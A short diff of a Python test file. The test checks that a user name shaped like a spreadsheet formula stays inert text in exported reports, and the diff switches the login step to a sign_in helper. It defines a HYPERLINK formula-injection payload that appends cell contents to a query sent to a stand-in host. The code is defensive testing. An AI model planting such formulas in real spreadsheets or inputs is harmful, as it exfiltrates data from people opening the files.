@@ -10,7 +10,7 @@ from sqlmodel import Session
 
 from dispatch.cells import inert
 from models.enums import Role
-from tests.builders.accounts import PASSWORD, create_user
+from tests.builders.accounts import create_user, sign_in
 from tests.builders.days import DAY, plan_day
 
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
@@ -30,7 +30,7 @@ def test_a_name_like_a_formula_is_text_in_the_monthly_report_and_the_audit_expor
     )
     assert renamed.status_code == 200, renamed.text
     manager = create_user(session, role=Role.MANAGER, stations=(day.station,))
-    api.post("/login", data={"username": manager.username, "password": PASSWORD})
+    sign_in(api, manager.username)
 
     report = api.get(f"/reports/{day.station.id}/{DAY[:7]}.xlsx")
     assert report.status_code == 200
